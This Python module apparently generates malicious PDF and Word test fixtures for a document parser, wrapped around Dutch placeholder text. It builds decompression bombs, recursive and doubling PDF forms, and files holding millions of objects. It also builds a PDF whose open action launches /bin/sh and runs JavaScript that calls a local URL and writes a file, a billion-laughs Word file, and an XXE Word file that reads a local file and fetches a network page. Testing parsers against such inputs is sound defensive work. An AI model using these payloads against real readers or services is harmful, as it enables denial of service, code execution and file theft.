"""Files that are made to harm who reads them: small on disk, without end in memory or time."""

import io
import zipfile
import zlib
from collections.abc import Mapping

GOOD = "Voortgang pilots\n\nPilot Eettafel\n\nDoel\nBuren eten samen.\n\nPilot Leesclub\n\nDoel\nKinderen lezen.\n"

SHOW = b"BT /F1 11 Tf 72 770 Td (Pilot Eettafel) Tj 0 -20 Td (Doel) Tj 0 -14 Td (Buren eten samen.) Tj ET"
"""Operators that show a small letter."""


def pdf(content: bytes = SHOW, *, of_page: str = "", of_content: str = "", of_root: str = "", more: str = "") -> bytes:
    """A PDF of one page with these operators.

    Args:
        of_page, of_content, of_root: further entries of those dictionaries.
        more: further objects, from number 6 on.
    """
    objects = [
        f"1 0 obj << /Type /Catalog /Pages 2 0 R {of_root} >> endobj".encode(),
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> " + f"{of_page} >> endobj".encode(),
        f"4 0 obj << /Length {len(content)} {of_content} >> stream\n".encode() + content + b"\nendstream endobj",
        b"5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj",
        more.encode("latin-1"),
    ]
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def bomb(size: int = 2_000_000_000) -> bytes:
    """A PDF of 4 KB whose content inflates twice, to 2 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    spaces = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    content = b"\x78\xda" + spaces * (size // 1_000_000) + packer.flush()
    return pdf(zlib.compress(content, 9), of_content="/Filter [/FlateDecode /FlateDecode]")


def form(operators: str, resources: str = "", number: int = 6) -> str:
    """A form, which a page may draw with `/X Do`."""
    return (
        f"{number} 0 obj << /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length {len(operators)}"
        f" /Resources << {resources} >> >> stream\n{operators}\nendstream endobj"
    )


def self_referring() -> bytes:
    """A PDF whose form draws itself, four times each time."""
    return pdf(b"/X Do " + SHOW, more=form("/X Do " * 4, "/XObject << /X 6 0 R >>"))


def doubling(levels: int = 30) -> bytes:
    """A PDF of forms of which each draws the next one twice: a billion drawings."""
    forms = [form("/X Do /X Do ", f"/XObject << /X {number + 1} 0 R >>", number) for number in range(6, 6 + levels)]
    last = (
        f"{6 + levels} 0 obj << /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 0 >> stream\n\nendstream endobj"
    )
    return pdf(b"/X Do " + SHOW, more="\n".join([*forms, last]))


def many_operators(count: int = 3_000_000) -> bytes:
    """A PDF of 50 KB with millions of operators."""
    return pdf(zlib.compress(b"BT /F1 1 Tf " + b"(a) Tj " * count + b"ET", 9), of_content="/Filter /FlateDecode")


def many_objects(count: int = 1_000_000) -> bytes:
    """A PDF of a million tiny objects."""
    return pdf(more="\n".join(f"{number} 0 obj 0 endobj" for number in range(6, 6 + count)))


def many_paths(count: int = 1_000_000) -> bytes:
    """A PDF of a million ruling lines."""
    content = zlib.compress(b"0 0 m 9 9 l S " * count, 9)
    return pdf(content, of_content="/Filter /FlateDecode")


def scripted(mark: str, port: int) -> bytes:
    """A PDF that, when it is opened, runs JavaScript, starts a program that makes the file `mark`, and calls a page."""
    return pdf(
        of_root="/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (sh) >> /Next 6 0 R >>"
        " /AA << /WC 6 0 R >> /AcroForm << /Fields [] /XFA (<xfa/>) >>",
        of_page="/AA << /O 6 0 R >>",
        more=f"6 0 obj << /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:{port}/'\\);"
        f" util.writeFile\\('{mark}'\\);)"
        f" /Next << /S /Launch /F (touch {mark}) >> >> endobj",
    )


_BODY = (
    '<?xml version="1.0"?>{doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body>{paragraphs}</w:body></w:document>"
)
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def docx(paragraphs: str = "", *, doctype: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    """A Word file; `more` are further parts by name."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("word/document.xml", _BODY.format(doctype=doctype, paragraphs=paragraphs))
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return file.getvalue()


def paragraphs(text: str) -> str:
    """The text as paragraphs of a Word file, a line each."""
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines() if line)


def expanding() -> bytes:
    """A Word file whose entities expand to ten billion letters."""
    entities = ['<!ENTITY a0 "lol lol lol ">']
    entities += (f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    return docx(paragraphs("&a9;"), doctype=f"<!DOCTYPE w [{''.join(entities)}]>")


def calling_out(file: str, port: int) -> bytes:
    """A Word file with entities that stand for a file of the machine and a page of the network."""
    doctype = f'<!DOCTYPE w [<!ENTITY f SYSTEM "file://{file}"><!ENTITY n SYSTEM "http://127.0.0.1:{port}/x">]>'
    return docx(paragraphs(GOOD) + paragraphs("Lees ook: &f; &n;"), doctype=doctype)
